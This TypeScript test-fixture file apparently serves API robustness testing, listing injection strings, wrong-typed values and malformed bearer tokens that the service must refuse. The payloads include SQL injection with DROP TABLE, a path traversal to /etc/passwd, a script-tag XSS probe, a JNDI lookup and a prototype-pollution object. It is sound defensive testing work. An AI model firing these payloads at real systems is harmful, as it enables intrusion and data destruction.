/** encodeURIComponent throws on lone surrogates; in a URL they travel as U+FFFD instead. */
export function urlSafe(s: string): string {
  return encodeURIComponent(s.replace(/[\ud800-\udfff]/g, (ch, i: number, all: string) => (/[\ud800-\udbff][\udc00-\udfff]/.test(all.slice(i, i + 2)) || /[\ud800-\udbff][\udc00-\udfff]/.test(all.slice(i - 1, i + 1)) ? ch : '\ufffd')));
}

/** Values that have broken parsers, SQL builders, loggers and number handling somewhere before. */
export const INJECTIONS: readonly string[] = [
  "' OR 1=1 --",
  "'); DROP TABLE events; --",
  '{p0:String}',
  "x' UNION ALL SELECT * FROM system.users --",
  '`; SELECT sleep(3) --',
  '../../../../etc/passwd',
  '%00%0d%0a',
  '\u0000',
  '\u202e\u0000\ud800',
  '<script>alert(1)</script>',
  '${jndi:ldap://x/a}',
  '__proto__',
  'constructor',
  '*'.repeat(300),
  '\\'.repeat(50),
  '%s%s%s%n',
  'prop:\' OR 1=1',
  'time:millisecond',
  '😀'.repeat(40),
  'a'.repeat(5000),
];

/** Wrong types for any field: each one must be refused without a 5xx. */
export const WRONG_TYPES: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  0.5,
  '',
  'x',
  [],
  [null],
  {},
  { __proto__: { polluted: true } },
  [[[[[[[[[[[]]]]]]]]]]],
  'NaN',
  '1e400',
];

export const BAD_KEYS: readonly string[] = [
  '',
  'Bearer',
  'Bearer ',
  'Basic dXNlcjpwYXNz',
  `Bearer wk_${'0'.repeat(32)}`,
  `Bearer wk_${'a'.repeat(31)}!`,
  `Bearer rk_${'a'.repeat(32)}`,
  `Bearer ${'x'.repeat(9000)}`,
  `Bearer wk_${'a'.repeat(32)}, Bearer wk_${'b'.repeat(32)}`,
  'Bearer \tbad',
  'bearer wk_%00',
  'Bearer wk_../../admin',
  'Bearer \u00ff\u00fe',
];
